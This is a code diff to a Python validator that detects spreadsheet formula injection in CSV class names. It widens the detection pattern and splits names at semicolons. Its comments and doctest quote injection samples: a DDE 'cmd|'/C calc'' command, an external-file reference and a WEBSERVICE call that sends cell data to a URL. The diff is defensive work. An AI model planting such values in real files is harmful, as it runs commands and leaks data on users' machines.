@@ -43,8 +43,9 @@ _NOTHING: Final = frozenset(
     *range(0xE0100, 0xE01F0),
 }
 _UNUSUAL: Final = re.compile(r"[^\x20-\x7e]+")
-# A sign in front, and a function's call or a command of another program (DDE) behind it.
-_FORMULA: Final = re.compile(r"\s*[=+\-@](?s:.*)(?:\w\(|\|.*!)")
+# A sign in front, also as East Asian spreadsheets take it, and a function's call behind it, or what stands in another
+# file or program: '\\host\[a.xlsx]b'!A1, or cmd|'/C calc'!A0.
+_FORMULA: Final = re.compile(r"\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20](?s:.*)(?:\w\s*\(|!)")
 _BLANKS: Final = re.compile(r"(?<=\s) |[^\S ]")
 
 
@@ -168,10 +169,12 @@ def formula_fault(name: str) -> str | None:
 
     A class name is a cell of its own in the CSV files of predictions. Signs alone, as ``+`` for a positive test, pass.
 
-    >>> formula_fault('=WEBSERVICE("http://a/"&A2)'), formula_fault("+ (weak)")
+    >>> formula_fault('=WEBSERVICE ("http://a/"&A2)'), formula_fault("+ (weak)")
     ('a spreadsheet would run it as a formula', None)
     """
-    return "a spreadsheet would run it as a formula" if _FORMULA.match(name) else None
+    # Where commas are decimal signs, a spreadsheet cuts lines at semicolons. Longer names are refused anyway.
+    runs = any(map(_FORMULA.match, name[:LONGEST_NAME].split(";")))
+    return "a spreadsheet would run it as a formula" if runs else None
 
 
 class PrintableLogs(logging.Filter):
